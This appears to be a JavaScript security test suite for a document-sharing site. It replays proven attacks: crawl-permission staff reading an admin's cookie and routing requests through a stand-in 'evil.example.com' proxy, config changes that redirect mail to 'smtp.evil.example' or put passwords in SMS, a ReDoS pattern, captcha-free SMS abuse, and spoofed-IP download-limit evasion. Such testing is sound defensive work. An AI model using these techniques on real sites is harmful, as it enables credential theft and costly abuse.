// Attacks that a security review proved: what staff reach with one permission, and what costs the site money or time.

import { randomInt } from "node:crypto"
import { setTimeout as pause } from "node:timers/promises"
import { withSettings } from "./settings.mjs"

/** @typedef {import("./run.mjs").Attack} Attack */

const spiderRights = ["SpiderUrlAPI/CreateSpiderUrl", "SpiderUrlAPI/UpdateSpiderUrl", "SpiderUrlAPI/ListSpiderUrl"]

/** @type {Attack[]} */
export const walls = [
  {
    area: "rank",
    title: "采集员用自己的代理读站长的请求头 [security: crawl-secrets]",
    run: async ({ admin, call, staff }, attempt) => {
      const climber = await staff(spiderRights)
      const url = `https://${Math.random().toString(36).slice(2)}.example.com/`
      const made = await call("POST /spiderurl", { url, headers: "Cookie: s=topsecret", cron: "" }, admin)
      if (made.status !== 200) throw new Error(`没能添加采集链接：${made.text.slice(0, 100)}`)
      const { json, text } = await call("GET /spiderurl/list", { page: 1, size: 10 }, climber)
      const row = json["spider_url"]?.[0]
      attempt("读请求头", text.includes("topsecret"))
      const proxy = "http://evil.example.com:8080"
      attempt("改代理", (await call("PUT /spiderurl", { id: row?.id, proxy, headers: row?.headers }, climber)).status === 200)
      attempt("新链接带代理", (await call("POST /spiderurl", { url: `${url}2`, proxy }, climber)).status === 200)
      await call("DELETE /spiderurl", { id: row?.id }, admin)
    },
  },
  {
    area: "rank",
    title: "改设置的员工：短信预算、验证码、奖励、密码的去处 [security: settings-of-first-admin, paid-messages]",
    run: async ({ admin, call, staff }, attempt) => {
      const climber = await staff(["ConfigAPI/UpdateConfig", "ConfigAPI/ListConfig"])
      const wishes = [
        ["sms", "daily_budget", "1000000"],
        ["sms", "refused_prefixes", "1"],
        ["smsHaomas", "body", "{password}"],
        ["smsHaomas", "success", "(a+)+$"],
        ["score", "sign_in", "1000"],
        ["security", "enable_captcha_register", "false"],
        ["security", "recycle_days", "1"],
        ["email", "host", "smtp.evil.example"],
      ]
      for (const [category, name, value] of wishes) {
        const reply = await call("PUT /config", { config: [{ category, name, value }] }, climber)
        const saved = (await call("GET /config/list", { category }, admin)).json["config"] ?? []
        const stored = saved.find((/** @type {{ name: string }} */ row) => row.name === name)
        attempt(`${category}.${name}：${reply.status}`, reply.status === 200 || stored?.value === value)
      }
    },
  },
  {
    area: "limits",
    title: "不做验证码就骗发短信 [security: paid-messages, 2.4.1]",
    ownSite: true,
    run: async ({ admin, call }, attempt) => {
      const provider = (/** @type {string} */ value) =>
        call("PUT /config", { config: [{ category: "sms", name: "sms_provider", value }] }, admin)
      if ((await provider("smsHaomas")).status !== 200) throw new Error("没能启用短信")
      for (const type of [0, 1, 2])
        for (let n = 0; n < 3; n++) {
          const mobile = `139${String(randomInt(1e8)).padStart(8, "0")}`
          const { status, json } = await call("POST /sms", { mobile, type })
          if (status !== 200 && json["message"] !== "请输入验证码") throw new Error(`不是因为验证码：${json["message"]}`)
          attempt(`用途 ${type}：${status}`, status === 200)
        }
      await provider("")
    },
  },
  {
    area: "limits",
    title: "价钱约成 0 分的充值 [security: 2.3.1]",
    ownSite: true,
    run: async (site, attempt) => {
      const { call, person } = site
      const buyer = await person()
      const values = { enable_recharge: "true", credit_exchange: "100000", recharge_discount: "1000:0.01" }
      const rows = Object.entries(values).map(([name, value]) => ({ category: "score", name, value }))
      await withSettings(site, rows, async () => {
        for (const quantity of [1, 499, 10_000]) {
          const { status } = await call("POST /order/recharge", { quantity }, buyer)
          attempt(`${quantity} 个：${status}`, status === 200)
        }
      })
    },
  },
  {
    area: "limits",
    title: "换着 IPv6 地址下载，超过每日上限 [security: 2.4.1]",
    ownSite: true,
    run: async (site, attempt) => {
      const { call, document, person } = site
      const { id } = await document(await person(), "换地址下载")
      const values = { enable_guest_download: "true", times_every_ip: "3" }
      const rows = Object.entries(values).map(([name, value]) => ({ category: "download", name, value }))
      await withSettings(site, rows, async () => {
        let count = 0
        for (let n = 0; n < 8; n++) {
          const from = { "x-forwarded-for": `2001:db8:${randomInt(1, 9999)}:7::1` }
          if (n === 0 && (await call("GET /document/download", { id }, null, from)).status !== 200) throw new Error("访客下载不了")
          const reply = await call("GET /document/download", { id }, null, { "x-forwarded-for": `2001:db8:1:2::${n + 1}` })
          if (reply.status === 200) count++
        }
        attempt(`一个 /64 下载了 ${count} 次`, count > 3)
      })
    },
  },
  {
    area: "auth",
    title: "访问令牌变成会话 Cookie；退出以后还收得到进度 [security: access-token-secret, 7.4.1]",
    run: async ({ ask, call, person }, attempt) => {
      const victim = await person()
      const { json, status } = await call("POST /user/token", { name: "读", scope: ["read"], days: 1 }, victim)
      if (status !== 200) throw new Error(`没能新建访问令牌：${json["message"] ?? status}`)
      const reply = await call("GET /user", {}, { ...victim, token: json["token"] })
      attempt(`答复 ${reply.status}`, String(reply.headers["set-cookie"] ?? "").includes(json["token"]))
      const progress = ask("/api/v1/document/progress", { headers: { authorization: `Bearer ${victim.token}` } })
      await pause(500)
      await call("DELETE /user/logout", {}, victim)
      const ended = await Promise.race([progress, pause(5_000)])
      attempt("退出五秒以后", !ended)
      if (ended && ended.status !== 200) throw new Error(`没能打开进度：${ended.status}`)
    },
  },
  {
    area: "limits",
    title: "上百次登录同时来时，缓存的网页照常 [security: password-flood]",
    run: async ({ ask, call }, attempt) => {
      const flood = Array.from({ length: 120 }, (_, n) => call("POST /user/login", { username: `nobody${n}`, password: "correct horse 7" }))
      const times = []
      for (let n = 0; n < 20; n++) {
        const begun = performance.now()
        await ask("/")
        times.push(performance.now() - begun)
      }
      const statuses = (await Promise.all(flood)).map(({ status }) => status)
      const slow = times.toSorted((a, b) => a - b)[10] ?? 0
      attempt(`网页的中位数 ${slow.toFixed(0)} 毫秒`, slow > 1_000)
      attempt(
        `答复 ${[...new Set(statuses)].join("、")}`,
        statuses.some((status) => status !== 400 && status !== 429),
      )
    },
  },
  {
    area: "limits",
    title: "同时要同一份封面 [security: covers-queued]",
    run: async ({ ask, document, person }, attempt) => {
      const author = await person()
      const { uuid } = await document(author, "封面")
      const path = `/view/cover/${uuid}.jpg?v=1`
      const replies = await Promise.all(Array.from({ length: 60 }, () => ask(path)))
      const odd = replies.filter(({ status }) => status !== 200)
      attempt(
        `出错 ${odd.length} 次`,
        odd.some(({ status }) => status >= 500),
      )
    },
  },
]
